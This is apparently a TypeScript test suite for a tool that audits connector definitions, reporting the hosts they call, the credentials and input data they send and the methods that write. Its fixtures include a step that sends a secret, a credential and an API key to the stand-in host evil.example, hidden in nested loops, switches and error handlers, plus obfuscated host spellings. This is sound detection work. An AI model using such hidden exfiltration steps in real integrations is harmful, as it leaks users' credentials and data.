import { describe, expect, test } from 'vitest';
import { checkDefinition } from '../connector/check/index.ts';
import { hostTemplate, referenceText } from './host-template.ts';
import { manifestOf } from './manifest.ts';
import { define, oneStep } from './testing.ts';

describe('where a URL calls', () => {
  test.each<[url: string, kind: string, host: string, chosenBy?: string[]]>([
    ['https://api.example.com/v1', 'host', 'api.example.com'],
    ['https://API.Example.COM', 'host', 'api.example.com'],
    ['https://api.example.com.:443/x', 'host', 'api.example.com'],
    ['http://api.example.com:80?x=1', 'host', 'api.example.com'],
    ['https://api.example.com:8443/', 'host', 'api.example.com:8443'],
    ['https://bücher.example/x', 'host', 'xn--bcher-kva.example'],
    ['https://ex%61mple.com/x', 'host', 'example.com'],
    ['https://0x7f.1/', 'host', '127.0.0.1'],
    ['https:///evil.example.com/x', 'host', 'evil.example.com'],
    ['https://api.example.com/{{input.path}}', 'host', 'api.example.com'],
    ['https://api.example.com?{{input.path}}', 'host', 'api.example.com'],
    ['https://{{input.region}}.Example.com/v1', 'pattern', '{{input.region}}.example.com', ['input.region']],
    [
      'https://{{input.region}}.example.com:443/v1',
      'pattern',
      '{{input.region}}.example.com',
      ['input.region'],
    ],
    ['https://{{input.a}}.example.com:8443', 'pattern', '{{input.a}}.example.com:8443', ['input.a']],
    [
      'https://a-{{steps.one.x}}.eu.example.com./',
      'pattern',
      'a-{{steps.one.x}}.eu.example.com',
      ['steps.one.x'],
    ],
    ['{{input.base}}/v1', 'any', '{{input.base}}', ['input.base']],
    [
      '{{ steps.login.body.instance_url }}',
      'any',
      '{{ steps.login.body.instance_url }}',
      ['steps.login.body.instance_url'],
    ],
    ['{{"https://evil.example.com"}}/x', 'any', '{{"https://evil.example.com"}}', []],
    ['https://{{input.host}}/v1', 'any', '{{input.host}}', ['input.host']],
    ['https://api.{{input.domain}}/v1', 'any', 'api.{{input.domain}}', ['input.domain']],
    ['https://{{input.host}}com/', 'any', '{{input.host}}com', ['input.host']],
    ['https://{{input.a}}.0.0.1/', 'any', '{{input.a}}.0.0.1', ['input.a']],
    ['https://{{input.a}}.0x1/', 'any', '{{input.a}}.0x1', ['input.a']],
    ['https://{{input.a}}.ex%61mple.com/', 'any', '{{input.a}}.ex%61mple.com', ['input.a']],
    ['https:///{{input.a}}/x', 'any', '{{input.a}}', ['input.a']],
  ])('%s', (url, kind, host, chosen_by = []) => {
    const found = hostTemplate(url);
    expect({ ...found, chosen_by: found.chosen_by.map(referenceText) }).toEqual({ kind, host, chosen_by });
  });
});

describe('a manifest', () => {
  test('tells the credentials, how they are sent, and to which hosts', () => {
    const manifest = manifestOf(
      define({
        steps: [
          {
            name: 'one',
            request: { url: 'https://a.example.com/?k={{workspace.crm.key}}', auth: { credential: 'slack' } },
          },
          {
            name: 'two',
            request: {
              method: 'POST',
              url: 'https://b.example.com/',
              headers: { 'X-Key': '{{workspace.crm.key}}:{{workspace.crm.user}}' },
              query: { sig: '{{ $uppercase(workspace.crm.key) }}' },
              body: { type: 'json', content: { deep: ['{{workspace.other.pin}}'] } },
            },
          },
        ],
      }),
    );
    expect(manifest.credentials).toEqual([
      {
        service_name: 'slack',
        fields: [],
        hosts: ['a.example.com'],
        sent: [
          {
            step: 'one',
            in: 'auth',
            field: null,
            host: 'a.example.com',
            pointer: '/steps/0/request/auth/credential',
          },
        ],
      },
      {
        service_name: 'crm',
        fields: ['key', 'user'],
        hosts: ['a.example.com', 'b.example.com'],
        sent: [
          { step: 'one', in: 'url', field: 'key', host: 'a.example.com', pointer: '/steps/0/request/url' },
          {
            step: 'two',
            in: 'query',
            field: 'key',
            host: 'b.example.com',
            pointer: '/steps/1/request/query/sig',
          },
          {
            step: 'two',
            in: 'header',
            field: 'key',
            host: 'b.example.com',
            pointer: '/steps/1/request/headers/X-Key',
          },
          {
            step: 'two',
            in: 'header',
            field: 'user',
            host: 'b.example.com',
            pointer: '/steps/1/request/headers/X-Key',
          },
        ],
      },
      {
        service_name: 'other',
        fields: ['pin'],
        hosts: ['b.example.com'],
        sent: [
          {
            step: 'two',
            in: 'body',
            field: 'pin',
            host: 'b.example.com',
            pointer: '/steps/1/request/body/content/deep/0',
          },
        ],
      },
    ]);
  });

  test.each<[what: string, request: object, data: object[]]>([
    ['a path', { url: 'https://a.example.com/{{input.id}}' }, [{ in: 'url', references: ['input.id'] }]],
    ['a query', { query: { q: 'x{{input.a.b}}' } }, [{ in: 'query', references: ['input.a.b'] }]],
    ['a header', { headers: { 'X-A': '{{input.a}}' } }, [{ in: 'header', references: ['input.a'] }]],
    [
      'the execution',
      { query: { q: '{{execution.workspace_id}}' } },
      [{ in: 'query', references: ['execution.workspace_id'] }],
    ],
    [
      'an expression',
      { query: { q: '{{ ($x := input; $x.secret & input.list[kind="a"].v) }}' } },
      [{ in: 'query', references: ['input', 'input.list.v'] }],
    ],
    [
      'a looked-up name',
      { query: { q: '{{ $lookup(input, "ph" & "one") }}' } },
      [{ in: 'query', references: ['input'] }],
    ],
    ['nothing', { query: { q: 'fixed' }, headers: { 'X-A': 'fixed' } }, []],
    [
      'a form',
      { method: 'POST', body: { type: 'form', content: { a: ['{{input.a}}', '{{input.b}}'] } } },
      [
        { in: 'body', references: ['input.a'] },
        { in: 'body', references: ['input.b'] },
      ],
    ],
    [
      'a file',
      {
        method: 'POST',
        body: { type: 'multipart', files: { f: { filename: '{{input.name}}', base64: '{{input.file}}' } } },
      },
      [
        { in: 'body', references: ['input.name'] },
        { in: 'body', references: ['input.file'] },
      ],
    ],
    [
      'XML',
      { method: 'POST', body: { type: 'xml', content: '<a>{{input.a}}</a>' } },
      [{ in: 'body', references: ['input.a'] }],
    ],
  ])('tells the data sent in %s', (_, request, data) => {
    expect(manifestOf(oneStep(request)).data).toEqual(
      data.map((entry) => expect.objectContaining({ step: 'call', ...entry })),
    );
  });

  test.each<[map: string, read: string, references: string[]]>([
    ['input.phone', 'steps.one.x', ['steps.one.x', 'input.phone']],
    ['body.n', 'steps.one.x', ['steps.one.x']],
    ['body.n & input.phone', 'steps.one', ['steps.one', 'input.phone']],
    ['input.phone', 'steps.one.body', ['steps.one.body']],
    ['{"all": $$}', 'steps.one.x', ['steps.one.x', 'input', 'steps', 'execution']],
    ['$string()', 'steps.one.x', ['steps.one.x', 'input', 'steps', 'execution']],
    ['$lookup(input, body.which)', 'steps.one.x', ['steps.one.x', 'input']],
  ])('follows data through the response map %s to %s', (map, read, references) => {
    const manifest = manifestOf(
      define({
        steps: [
          { name: 'one', request: { url: 'https://a.example.com/' }, response: { map: { x: map } } },
          { name: 'two', request: { url: 'https://b.example.com/', query: { q: `{{ $string(${read}) }}` } } },
        ],
      }),
    );
    expect(manifest.data).toMatchObject([{ step: 'two', host: 'b.example.com', references }]);
  });

  test('follows data through several response maps', () => {
    const through = (name: string, x: string) => ({
      name,
      request: { url: 'https://a.example.com/' },
      response: { map: { x } },
    });
    const manifest = manifestOf(
      define({
        steps: [
          through('one', 'input.phone'),
          through('two', 'steps.one.x'),
          { name: 'three', request: { url: 'https://b.example.com/{{steps.two.x}}' } },
        ],
      }),
    );
    expect(manifest.data[0]?.references).toEqual(['steps.two.x', 'steps.one.x', 'input.phone']);
  });

  test('tells the methods that write, the conditions, the number of steps and the contact fields', () => {
    const methods = ['GET', 'HEAD', 'OPTIONS', 'POST', 'PUT', 'PATCH', 'DELETE'];
    const manifest = manifestOf(
      define({
        steps: methods.map((method) => ({
          name: method.toLowerCase(),
          request: { method, url: 'https://a.example.com/' },
          ...(method === 'PUT' ? { condition: 'input.really' } : {}),
        })),
        contact_mapping: { match: ['email'], fields: { email: '{{input.email}}', plan: 'pro' } },
      }),
    );
    expect(manifest.steps).toBe(7);
    expect(manifest.writes.map(({ method }) => method)).toEqual(['POST', 'PUT', 'PATCH', 'DELETE']);
    expect(manifest.conditions).toEqual([{ step: 'put', condition: 'input.really' }]);
    expect(manifest.contact_fields).toEqual(['email', 'plan']);
    expect(manifest.hosts).toEqual([
      {
        kind: 'host',
        host: 'a.example.com',
        chosen_by: [],
        steps: methods.map((method) => method.toLowerCase()),
      },
    ]);
  });
});

describe('nothing is hidden by where a step stands', () => {
  const evil = {
    name: 'evil',
    condition: 'input.now',
    request: {
      method: 'DELETE',
      url: 'https://evil.example/{{input.secret}}',
      auth: { credential: 'crm' },
      headers: { 'X-Key': '{{workspace.hub.key}}' },
    },
  };
  const fair = { name: 'fair', request: { url: 'https://fair.example/' } };
  const harmless = { name: 'z', transform: { x: 1 } };
  const nests: Record<string, [step: object, pointer: string, more?: object[]]> = {
    'a group': [{ name: 'g', steps: [harmless, evil] }, '/steps/1/steps/1'],
    'a loop': [{ name: 'g', for_each: { items: 'input.l' }, steps: [evil] }, '/steps/1/steps/0'],
    'a parallel group': [{ name: 'g', parallel: { steps: [evil] } }, '/steps/1/parallel/steps/0'],
    'a case': [
      {
        name: 'g',
        switch: {
          cases: [
            { when: 'input.w', steps: [harmless] },
            { when: 'true', steps: [evil] },
          ],
        },
      },
      '/steps/1/switch/cases/1/steps/0',
      [
        { step: 'g', condition: 'input.w' },
        { step: 'g', condition: 'true' },
      ],
    ],
    'the default of a switch': [
      { name: 'g', switch: { cases: [{ when: 'input.w', steps: [harmless] }], default: [evil] } },
      '/steps/1/switch/default/0',
      [{ step: 'g', condition: 'input.w' }],
    ],
    'what handles the failure of a call': [
      { name: 'g', request: { url: 'https://fair.example/' }, on_error: [evil] },
      '/steps/1/on_error/0',
    ],
    'what handles the failure of a transform': [{ ...harmless, on_error: [evil] }, '/steps/1/on_error/0'],
    'what handles the failure of a stop': [{ name: 'g', stop: {}, on_error: [evil] }, '/steps/1/on_error/0'],
    'five levels': [
      {
        name: 'g',
        for_each: { items: 'input.l' },
        steps: [
          {
            name: 'h',
            switch: {
              cases: [
                {
                  when: 'true',
                  steps: [{ name: 'i', parallel: { steps: [{ ...harmless, on_error: [evil] }] } }],
                },
              ],
            },
          },
        ],
      },
      '/steps/1/steps/0/switch/cases/0/steps/0/parallel/steps/0/on_error/0',
      [{ step: 'h', condition: 'true' }],
    ],
  };
  test.each(Object.entries(nests))('%s', (_, [step, pointer, conditions = []]) => {
    const manifest = manifestOf(define({ steps: [fair, step] }));
    expect(manifest.hosts).toContainEqual({
      kind: 'host',
      host: 'evil.example',
      chosen_by: [],
      steps: ['evil'],
    });
    expect(manifest.writes).toEqual([{ step: 'evil', method: 'DELETE', host: 'evil.example' }]);
    expect(manifest.conditions).toEqual([...conditions, { step: 'evil', condition: 'input.now' }]);
    expect(manifest.credentials).toMatchObject([
      {
        service_name: 'crm',
        hosts: ['evil.example'],
        sent: [{ in: 'auth', pointer: `${pointer}/request/auth/credential` }],
      },
      {
        service_name: 'hub',
        fields: ['key'],
        sent: [{ in: 'header', pointer: `${pointer}/request/headers/X-Key` }],
      },
    ]);
    expect(manifest.data).toContainEqual({
      step: 'evil',
      host: 'evil.example',
      in: 'url',
      pointer: `${pointer}/request/url`,
      references: ['input.secret'],
    });
    expect(manifest.steps).toBeGreaterThan(2);
  });
});

describe('data is followed through', () => {
  const from = { url: 'https://a.example.com/' };
  const send = (read: string) => ({
    name: 'send',
    request: {
      method: 'POST',
      url: 'https://b.example.com/',
      body: { type: 'json', content: `{{ ${read} }}` },
    },
  });
  test.each<[what: string, steps: object[], references: string[]]>([
    [
      'a transform',
      [{ name: 't', transform: { deep: ['{{input.phone}}'] } }, send('steps.t.deep')],
      ['steps.t.deep', 'input.phone'],
    ],
    [
      'another field of a transform',
      [{ name: 't', transform: { x: '{{input.phone}}', y: 1 } }, send('steps.t.y')],
      ['steps.t.y'],
    ],
    [
      'a map in one piece',
      [{ name: 'one', request: from, response: { map: '{"x": input.phone}' } }, send('steps.one.x')],
      ['steps.one.x', 'input.phone'],
    ],
    [
      'the item of a loop',
      [{ ...send('item.mail'), for_each: { items: 'input.people' } }],
      ['item.mail', 'input.people'],
    ],
    [
      'the item of a loop in a loop',
      [
        {
          name: 'l',
          for_each: { items: 'input.teams' },
          steps: [{ name: 'm', for_each: { items: 'item.people' }, steps: [send('item.mail')] }],
        },
      ],
      ['item.mail', 'item.people', 'input.teams'],
    ],
    [
      'the same item in two loops',
      [
        {
          name: 'l',
          for_each: { items: 'input.teams' },
          steps: [{ name: 'm', for_each: { items: 'item' }, steps: [send('item')] }],
        },
      ],
      ['item', 'input.teams'],
    ],
    [
      'the list of a loop, made by a step',
      [
        { name: 't', transform: { list: '{{input.people}}' } },
        { name: 'l', for_each: { items: 'steps.t.list' }, steps: [send('item')] },
      ],
      ['item', 'steps.t.list', 'input.people'],
    ],
    [
      'the results of a loop over a call',
      [
        {
          name: 'one',
          for_each: { items: 'input.l' },
          request: from,
          response: { map: { x: 'input.phone' } },
        },
        send('steps.one.results'),
      ],
      ['steps.one.results', 'input.phone'],
    ],
    [
      'the results of a loop over steps',
      [
        {
          name: 'l',
          for_each: { items: 'input.l' },
          steps: [{ name: 'g', steps: [{ name: 't', transform: { x: '{{item.phone}}' } }] }],
        },
        send('steps.l.results'),
      ],
      ['steps.l.results', 'item.phone', 'input.l'],
    ],
    [
      'the result of a group',
      [{ name: 'g', steps: [{ name: 't', transform: { x: '{{input.phone}}' } }] }, send('steps.g')],
      ['steps.g', 'input.phone'],
    ],
    [
      'the answer of a connector',
      [
        {
          name: 'sub',
          connector: { id: '01890000-0000-7000-8000-000000000001', input: { x: '{{input.phone}}' } },
        },
        send('steps.sub.echo'),
      ],
      ['steps.sub.echo', 'input.phone'],
    ],
    [
      'the end of a wait',
      [{ name: 'w', wait: { until: '{{input.birthday}}' } }, send('steps.w.until')],
      ['steps.w.until', 'input.birthday'],
    ],
    [
      'the case that was chosen',
      [
        {
          name: 'w',
          switch: { cases: [{ when: 'input.rich', steps: [{ name: 't', transform: { x: 1 } }] }] },
        },
        send('steps.w.case'),
      ],
      ['steps.w.case', 'input.rich'],
    ],
    [
      'a map in a loop that reads everything',
      [
        { name: 'one', for_each: { items: 'input.l' }, request: from, response: { map: { x: '$string()' } } },
        send('steps.one.results'),
      ],
      ['steps.one.results', 'input', 'steps', 'execution', 'item', 'input.l'],
    ],
  ])('%s', (_, steps, references) => {
    const definition = define({ steps });
    expect(checkDefinition(definition).errors).toEqual([]);
    expect(manifestOf(definition).data).toMatchObject([{ step: 'send', references }]);
  });

  test('the host that a loop calls', () => {
    const steps = [{ name: 'a', for_each: { items: 'input.hosts' }, request: { url: 'https://{{item}}/' } }];
    expect(manifestOf(define({ steps })).hosts).toEqual([
      { kind: 'any', host: '{{item}}', chosen_by: ['item', 'input.hosts'], steps: ['a'] },
    ]);
  });
});

describe('a host that the text does not name', () => {
  test('is that of the credential, for a path', () => {
    const manifest = manifestOf(oneStep({ method: 'POST', url: '/people', auth: { credential: 'crm' } }));
    const host = '{{workspace.crm.base_url}}';
    expect(manifest.hosts).toEqual([
      { kind: 'credential', host, chosen_by: ['workspace.crm.base_url'], steps: ['call'] },
    ]);
    expect(manifest.writes).toEqual([{ step: 'call', method: 'POST', host }]);
  });

  test.each([
    [{ type: 'next_url', next: 'body.links.next' }, '{{body.links.next}}', 'body.links.next'],
    [{ type: 'link_header' }, '{{headers.link}}', 'headers.link'],
  ])("may be the next page's: %o", (pagination, host, chosenBy) => {
    const request = { method: 'POST', url: 'https://a.example.com/', query: { q: '{{input.q}}' } };
    const manifest = manifestOf(oneStep(request, { pagination: { items: 'body', ...pagination } }));
    expect(manifest.hosts).toContainEqual({ kind: 'any', host, chosen_by: [chosenBy], steps: ['call'] });
    expect(manifest.writes.map((write) => write.host)).toEqual(['a.example.com', host]);
    expect(manifest.data.map((data) => [data.host, data.references])).toEqual([
      ['a.example.com', ['input.q']],
      [host, ['input.q']],
    ]);
  });
});
